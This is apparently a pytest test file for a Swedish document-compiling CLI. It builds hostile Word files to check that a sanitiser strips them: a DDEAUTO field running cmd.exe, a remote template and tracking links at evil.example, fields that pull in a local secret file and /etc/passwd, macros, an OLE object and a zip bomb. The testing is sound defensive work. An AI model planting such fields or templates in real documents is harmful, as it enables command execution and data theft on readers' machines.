"""The Word reference document as untrusted input (`documents/reference.py`).

Each hostile document is a real .docx made by python-docx and then edited part
by part with zipfile, as an attacker would: macros, an attached template that
Word fetches on open, external relationships, fields that run or fetch
(`DDEAUTO`, `INCLUDEPICTURE`, `INCLUDETEXT`, `HYPERLINK` to a file), simple and
complex, nested, in headers and footers. The summary made with it is read back
with zipfile and lxml: none of it may be there, the page numbers and the
header's own text and picture must be, and the CLI names what was left out.
"""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from reportfactory import report_dict, write_report, write_roster
from typer.testing import CliRunner

from vastbus_cli.cli import app
from vastbus_cli.documents.problem import DocumentProblem
from vastbus_cli.documents.reference import clean, field_name, warning

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = f"{{{W_NS}}}"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
EVIL = "evil.example"


def _png() -> bytes:
    """A 1×1 white PNG."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\xff\xff\xff")) + chunk(b"IEND", b""))


def _base(path: Path) -> dict[str, bytes]:
    """A real .docx with a header holding a picture, and body text never to be taken."""
    import docx

    doc = docx.Document()
    doc.add_paragraph("Kroppens text, som aldrig ska med.")
    header = doc.sections[0].header
    header.paragraphs[0].text = "Kommunens sidhuvud"
    header.paragraphs[0].add_run().add_picture(io.BytesIO(_png()))
    doc.save(path)
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _add_rel(parts: dict[str, bytes], rels: str, rid: str, kind: str, target: str,
             external: bool = False) -> None:
    mode = ' TargetMode="External"' if external else ""
    xml = parts.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                          b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                          b'relationships"></Relationships>').decode()
    parts[rels] = xml.replace("</Relationships>", f'<Relationship Id="{rid}" Type="{kind}" '
                              f'Target="{target}"{mode}/></Relationships>').encode()


def _override(parts: dict[str, bytes], name: str, ctype: str) -> None:
    xml = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = xml.replace(
        "</Types>", f'<Override PartName="/{name}" ContentType="{ctype}"/></Types>').encode()


def _runs(instruction: str, result: str) -> str:
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


_PICTURE = _runs(f"INCLUDEPICTURE &quot;http://{EVIL}/spår.png&quot; " + "\\d", "bild")
HEADER_FIELDS = (
    # a simple field, a complex one, one spanning two paragraphs, one nested in another's code
    '<w:p><w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" \'>'
    '<w:r><w:t>dde-resultat</w:t></w:r></w:fldSimple></w:p>'
    f"<w:p>{_PICTURE}</w:p>"
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDETEXT '
    '"c:\\\\hemligt.txt" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    '<w:r><w:t>inkluderad text</w:t></w:r></w:p><w:p><w:r><w:t>andra stycket</w:t></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK '
    '"file:///etc/</w:instrText></w:r>' + _runs("PAGE", "7")
    + '<w:r><w:instrText>passwd" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
      '</w:r><w:r><w:t>länktext</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    # an external link and a linked picture
    '<w:p><w:hyperlink r:id="rIdEvilLink"><w:r><w:t>webblänk</w:t></w:r></w:hyperlink></w:p>'
    f'<w:p>{_runs("PAGE", "1")}<w:r><w:t> av </w:t></w:r>{_runs("NUMPAGES", "1")}</w:p>'
)


def hostile(folder: Path) -> Path:
    """A reference document carrying every kind of active content at once."""
    parts = _base(folder / "bas.docx")
    # macros: a VBA project and its data, the main part declared macro-enabled
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 VBA " + EVIL.encode()
    parts["word/vbaData.xml"] = f'<wne:vbaSuppData xmlns:wne="x">{EVIL}</wne:vbaSuppData>'.encode()
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdVba",
             "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
    _add_rel(parts, "word/_rels/vbaProject.bin.rels", "rIdData",
             "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml")
    types = parts["[Content_Types].xml"].decode().replace(
        "wordprocessingml.document.main+xml", "nonsense").replace(
        "application/vnd.openxmlformats-officedocument.nonsense",
        "application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["[Content_Types].xml"] = types.encode()
    _override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    # an attached template fetched from the web on open
    settings = parts["word/settings.xml"].decode()
    parts["word/settings.xml"] = re.sub(
        r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/><w:linkStyles/>',
        settings, count=1).encode()
    assert f'xmlns:r="{R_NS}"' in settings
    _add_rel(parts, "word/_rels/settings.xml.rels", "rIdTpl", REL + "attachedTemplate",
             f"http://{EVIL}/mall.dotm", external=True)
    # the header: fields, an external link, a linked picture (its own picture stays)
    header = parts["word/header1.xml"].decode()
    parts["word/header1.xml"] = header.replace("</w:hdr>", HEADER_FIELDS + "</w:hdr>").encode()
    _add_rel(parts, "word/_rels/header1.xml.rels", "rIdEvilLink", REL + "hyperlink",
             f"http://{EVIL}/spåra", external=True)
    _add_rel(parts, "word/_rels/header1.xml.rels", "rIdEvilPic", REL + "image",
             f"\\\\{EVIL}\\share\\bild.png", external=True)
    parts["word/header1.xml"] = parts["word/header1.xml"].replace(
        b"</w:hdr>", b'<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org'
                     b'/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.'
                     b'openxmlformats.org/drawingml/2006/main"><a:graphicData><a:blip r:link='
                     b'"rIdEvilPic"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
                     b"</w:p></w:hdr>")
    return _zip(folder / "mall.docx", parts)


def _members(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _instructions(xml: bytes) -> list[str]:
    root = etree.fromstring(xml)
    simple = [n.get(f"{W}instr") for n in root.iter(f"{W}fldSimple")]
    return [" ".join(t.split()) for t in simple + [n.text or "" for n in root.iter(f"{W}instrText")]]


def _assert_nothing_active(members: dict[str, bytes]) -> None:
    names = " ".join(members)
    assert "vba" not in names.lower()
    for name, data in members.items():
        assert EVIL.encode() not in data, name
        assert b"TargetMode" not in data, name
        assert b"attachedTemplate" not in data and b"linkStyles" not in data, name
        if name.endswith(".xml") and b"<w:" in data:
            assert all(i.split()[0] in ("PAGE", "NUMPAGES", "PAGEREF", "TOC")
                       for i in _instructions(data) if i), (name, _instructions(data))
    assert b"macroEnabled" not in members["[Content_Types].xml"]
    assert b"Kroppens text" not in b"".join(members.values())


def test_hostile_reference_leaves_nothing_active(tmp_path: Path) -> None:
    cleaned = clean(hostile(tmp_path))
    members = _members(cleaned.data)
    _assert_nothing_active(members)
    header = members["word/header1.xml"]
    text = "".join(t.text or "" for t in etree.fromstring(header).iter(f"{W}t"))
    # the shown text of the fields and the link stays, as plain text; the page numbers stay
    assert "Kommunens sidhuvud" in text and "dde-resultat" in text and "webblänk" in text
    assert "inkluderad text" in text and "andra stycket" in text and "länktext" in text
    assert _instructions(header) == ["PAGE", "NUMPAGES"]
    assert any(name.startswith("word/media/") for name in members)  # the header's own picture
    left = cleaned.left_out
    assert (left.macros, left.template, left.external) == (True, True, 2)
    assert left.fields == ["DDEAUTO", "INCLUDEPICTURE", "INCLUDETEXT", "HYPERLINK"]


def test_summary_made_with_it_carries_none_of_it(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vastbus_cli.documents.libreoffice.find_soffice", lambda: None)
    folder = tmp_path / "2025"
    write_roster(folder, ["Skövde"])
    write_report(folder, report_dict("Skövde"))
    out = tmp_path / "sammanställning.docx"
    result = CliRunner().invoke(app, ["compile", str(folder), "-o", str(out),
                                      "--reference-docx", str(hostile(tmp_path))])
    assert result.exit_code == 0, result.output
    members = _members(out.read_bytes())
    _assert_nothing_active(members)
    assert b"Kommunens sidhuvud" in members["word/header1.xml"]
    assert " ".join(result.stderr.split()) .startswith(
        "Obs: Referensdokumentet mall.docx innehöll makron (vbaProject), en kopplad "
        "dokumentmall som Word hämtar när dokumentet öppnas (attachedTemplate), 2 externa "
        "länkar (filer eller webbadresser som Word hämtar) och 4 fältkoder (DDEAUTO, "
        "INCLUDEPICTURE, INCLUDETEXT, HYPERLINK). Det togs inte med: bara formatmallar, "
        "numrering, teckensnitt, tema, sidinställningar, sidhuvud och sidfot används från "
        "referensdokumentet.")


def test_plain_reference_gives_no_warning(tmp_path: Path) -> None:
    _base(tmp_path / "vanlig.docx")
    assert warning(tmp_path / "vanlig.docx") is None


def test_macro_renamed_as_styles_is_not_taken(tmp_path: Path) -> None:
    """A relationship of a kept type pointing at a part of another type: left out."""
    parts = _base(tmp_path / "bas.docx")
    parts["word/vbaProject.bin"] = b"VBA " + EVIL.encode()
    _override(parts, "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdX", REL + "header", "vbaProject.bin")
    members = _members(clean(_zip(tmp_path / "mall.docx", parts)).data)
    assert "word/vbaProject.bin" not in members and b"rIdX" not in b"".join(members.values())


def test_embedded_object_in_a_footer(tmp_path: Path) -> None:
    parts = _base(tmp_path / "bas.docx")
    doc = parts["word/document.xml"].decode()
    parts["word/document.xml"] = doc.replace(
        "</w:sectPr>", '<w:footerReference w:type="default" r:id="rIdFoot"/></w:sectPr>').encode()
    _add_rel(parts, "word/_rels/document.xml.rels", "rIdFoot", REL + "footer", "footer9.xml")
    _override(parts, "word/footer9.xml", "application/vnd.openxmlformats-officedocument."
                                         "wordprocessingml.footer+xml")
    parts["word/footer9.xml"] = (
        f'<w:ftr xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:p><w:r><w:object><w:control r:id="rIdOle"/>'
        '</w:object><w:t>Sidfot</w:t></w:r></w:p></w:ftr>').encode()
    _add_rel(parts, "word/_rels/footer9.xml.rels", "rIdOle", REL + "oleObject",
             "embeddings/oleObject1.bin")
    parts["word/embeddings/oleObject1.bin"] = b"OLE " + EVIL.encode()
    cleaned = clean(_zip(tmp_path / "mall.docx", parts))
    members = _members(cleaned.data)
    assert b"<w:object" not in members["word/footer9.xml"] and b"Sidfot" in members["word/footer9.xml"]
    assert not any("embeddings" in name for name in members)
    assert cleaned.left_out.objects == 2  # the relationship and the element
    assert "2 inbäddade objekt" in (warning(tmp_path / "mall.docx") or "")


@pytest.mark.parametrize(("instruction", "name"), [
    (" DDEAUTO c:\\x ", "DDEAUTO"), ("page \\* MERGEFORMAT", "PAGE"), ("", "?"),
    ("\x1b[31mX", "31MX"), ('"quoted"', "QUOTED")])
def test_field_names_are_shown_safely(instruction: str, name: str) -> None:
    assert field_name(instruction) == name


def test_zip_bomb_reference_is_refused_quickly(tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """A few hundred kilobytes holding a 600 MB picture: refused from the zip directory."""
    parts = _base(tmp_path / "bas.docx")
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        with archive.open("word/media/image9.png", "w", force_zip64=True) as member:
            block = b"\0" * 1_000_000
            for _ in range(600):
                member.write(block)
    assert path.stat().st_size < 1_000_000
    folder = tmp_path / "2025"
    write_roster(folder, ["Skövde"])
    write_report(folder, report_dict("Skövde"))
    start = time.perf_counter()
    result = CliRunner().invoke(app, ["compile", str(folder), "-o", str(tmp_path / "ut.docx"),
                                      "--reference-docx", str(path)])
    took = time.perf_counter() - start
    assert result.exit_code == 1
    assert re.match(rf"fel: Referensdokumentet {re.escape(str(path))} blir 600 \d{{3}} \d{{3}} "
                    r"byte när det packas upp; gränsen är 300 000 000 byte\. → Ett "
                    "referensdokument behöver bara formatmallar",
                    " ".join(result.stderr.split())), result.stderr
    assert took < 5, took
    assert not (tmp_path / "ut.docx").exists()
    with pytest.raises(DocumentProblem):
        clean(path)
